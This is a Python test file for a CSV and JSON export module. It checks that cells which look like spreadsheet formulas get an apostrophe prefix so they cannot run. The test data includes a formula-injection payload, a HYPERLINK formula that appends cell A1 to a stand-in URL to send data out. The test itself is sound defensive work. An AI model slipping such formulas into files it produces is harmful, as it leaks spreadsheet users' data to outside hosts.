"""An answer for programs and spreadsheets."""

import csv
import io
import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from graph.answers.listing import Answer, Table
from graph.answers.programs import as_csv, as_json


def answer(*cells: str) -> Answer:
    """Return an answer whose table has one row."""
    columns = tuple(f"c{number}" for number in range(len(cells)))
    return Answer([], Table(columns, [cells]), {"id": "oslo", "name": "ကိုကို"})


def test_csv_is_one_table() -> None:
    """A line of columns and one line end, whatever is displayed."""
    assert as_csv(answer("located in", "ကိုကို", "")) == "c0,c1,c2\r\nlocated in,ကိုကို,\r\n"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_spreadsheet_runs_nothing(start: str) -> None:
    """What a spreadsheet would take for a formula begins with an apostrophe instead."""
    cell = f'{start}HYPERLINK("https://example.org?"&A1)'

    rows = list(csv.reader(io.StringIO(as_csv(answer(cell, cell)), newline="")))

    assert rows[1] == [f"'{cell}", f"'{cell}"]


@given(st.lists(st.text(st.characters(codec="utf-8")), min_size=1, max_size=4))
def test_csv_is_read_back_as_it_was(cells: list[str]) -> None:
    """Commas, quotes and line ends inside a cell survive; only what looks like a formula gains an apostrophe."""
    rows = list(csv.reader(io.StringIO(as_csv(answer("h", *cells)), newline="")))

    assert rows[1] == ["h", *(f"'{cell}" if cell.startswith(tuple("=+-@\t\r")) else cell for cell in cells)]


def test_json_is_the_data_itself() -> None:
    """Other scripts are readable in it, and the last line ends."""
    assert as_json(answer()) == '{\n  "id": "oslo",\n  "name": "ကိုကို"\n}\n'
    assert json.loads(as_json(answer())) == answer().data
